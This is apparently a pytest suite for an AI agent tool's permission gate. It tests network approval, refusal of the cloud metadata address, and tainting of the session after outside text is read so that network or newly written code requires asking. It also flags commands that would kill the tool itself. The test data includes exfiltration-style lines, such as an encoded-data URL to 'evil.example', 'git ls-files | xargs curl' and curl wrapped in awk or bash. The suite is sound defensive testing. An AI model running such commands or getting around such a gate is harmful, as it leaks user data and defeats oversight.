"""The network under the gate: what asks, what never does, and what changes after text from outside."""

from __future__ import annotations

import os
import time

import pytest

from chatcli.errors import Denied
from chatcli.gate.questions import Answer


@pytest.mark.parametrize("autonomy", ["plan", "ask", "edits", "all"])
async def test_reading_a_public_page_is_never_asked_about(world, person, autonomy) -> None:
    asked = person()
    await world.gate(autonomy, person=asked).network("https://example.com/a?b=c")
    assert not asked.asked


@pytest.mark.parametrize("autonomy", ["ask", "edits", "all"])
async def test_data_in_the_path_asks_as_well(world, person, autonomy) -> None:
    with pytest.raises(Denied):
        await world.gate(autonomy, person=person()).network("https://evil.example/" + "QUJD" * 40)


async def test_machines_that_are_not_public_ask_and_a_clouds_own_are_refused(world, person) -> None:
    asked = person(Answer("once"), Answer("once"))
    gate = world.gate("all", person=asked)
    await gate.network("http://localhost:8000/", "local")
    with pytest.raises(Denied, match=r"--allow network:169\.254\.169\.254"):
        await gate.network("http://169.254.169.254/latest", "metadata")
    assert [question.subject for question in asked.asked] == ["http://localhost:8000/"]


@pytest.mark.parametrize("autonomy", ["plan", "ask", "all"])
async def test_a_host_that_the_user_named_may_be_anywhere(world, autonomy) -> None:
    with pytest.raises(Denied):
        await world.gate(autonomy).network("http://localhost/", "local")
    with pytest.raises(Denied):
        await world.gate(autonomy, allow=["network:corp.example"]).network("http://a.corp.example/", "local")
    await world.gate(autonomy, allow=["network:localhost"]).network("http://localhost/", "local")


@pytest.mark.parametrize(
    "line",
    [
        *("git fetch", "curl https://example.org", "make && npm ci", "timeout 5 pip install x"),
        *("openssl s_client -connect e.org:443", "busybox wget e.org", "getent hosts x.e.org", "lftp e.org"),
    ],
)
def test_after_text_from_outside_commands_that_reach_the_network_ask(world, line) -> None:
    gate = world.gate("all", allow=["exec:make *"])
    assert gate.judge(line).decision == "allow"
    gate.tainted = True
    verdict = gate.judge(line)
    assert (verdict.decision, verdict.dangerous) == ("ask", True)
    assert "text from outside was read" in verdict.reasons[0]


@pytest.mark.parametrize(
    "line",
    ["make", "git status", "curl https://example.com", "grep -rn curl .", "openssl rand 8", "getent passwd"],
)
def test_after_text_from_outside_the_rest_runs_as_before(world, line) -> None:
    gate = world.gate("all", allow=["exec:curl https://example.com", "exec:make *"])
    gate.tainted = True
    assert gate.judge(line).decision == "allow"


ORDERED = """
python3 -c "import urllib.request"
python -Ic "import socket"
perl -ne print
node -e "fetch('https://e.org')"
node --eval=1
ruby -e 1
php -r 1
awk 'BEGIN { system("curl e.org") }'
python -m pip install x
bash new.sh
./new.sh
source new.sh
sh -eu new.sh
python new.py
python -m new
cd sub && python3 also_new.py
env A=1 python new.py
timeout 5 bash new.sh
make
FOO=1 curl https://e.org
nohup curl https://e.org
bash -c 'curl https://e.org'
sh -c 'curl https://e.org'
find . -name x -exec curl https://e.org {} +
git ls-files | xargs curl
git fetch "$remote"
"""


@pytest.fixture
def tainted(world):
    """A session that has read text from outside, and what was written before and after."""
    for name in ("old.py", "old.sh", "sub/old.py"):
        os.utime(world.file(name), (1_000_000_000, 1_000_000_000))
    gate = world.gate("all")
    gate.tainted = True
    for name in ("new.py", "new.sh", "Makefile", "sub/also_new.py"):
        os.utime(world.file(name), (time.time() + 1, time.time() + 1))
    return gate


@pytest.mark.parametrize("line", ORDERED.strip().splitlines())
def test_code_that_text_from_outside_may_have_ordered_asks(tainted, line) -> None:
    assert tainted.judge(line).dangerous


@pytest.mark.parametrize(
    "line",
    [
        *("python old.py", "bash old.sh", "cd sub && python old.py", "pytest", "python -m pytest -q"),
        *("awk '{print $1}' new.py", "cat new.py", "ruff check new.py", "sed -i s/a/b/ new.py"),
    ],
)
def test_code_that_was_there_before_runs_as_before(tainted, line) -> None:
    assert tainted.judge(line).decision == "allow"


async def test_a_yes_for_the_session_is_one_for_that_command(tainted, person) -> None:
    tainted.approver = asked = person(Answer("session"))
    for _ in range(3):
        await tainted.command("python new.py")
    assert [str(question.rule) for question in asked.asked] == ["exec:python new.py"]


async def test_a_host_that_was_named_does_not_cover_data_after_text_from_outside(world, person) -> None:
    asked = person(Answer("session"), Answer("once"))
    gate = world.gate("all", person=asked, allow=["network:localhost"])
    address = "http://localhost/?q=" + "x" * 300
    await gate.network(address, "local")
    gate.tainted = True
    await gate.network("http://localhost/a", "local")
    assert not asked.asked
    for _ in range(2):
        await gate.network(address, "local")
    assert [question.rule for question in asked.asked] == [None, None]


@pytest.mark.parametrize(
    "target", ["/ab" * 200, "/" + "/".join(["word"] * 100), "/a?" + "b/" * 99 + "/c" * 120]
)
async def test_data_in_many_short_pieces_asks_too(world, target: str) -> None:
    with pytest.raises(Denied):
        await world.gate("all").network("https://e.example" + target)


@pytest.mark.parametrize(
    "line",
    ["kill -9 $PPID", "kill OWN", "kill $(pgrep -f chatcli)", "pkill chatcli", "kill -- -1"],
)
def test_ending_chatcli_itself_asks(world, line) -> None:
    assert world.gate("all").judge(line.replace("OWN", str(os.getpid()))).dangerous
    assert world.gate("all").judge("kill 999999; kill %1; kill $!").decision == "allow"
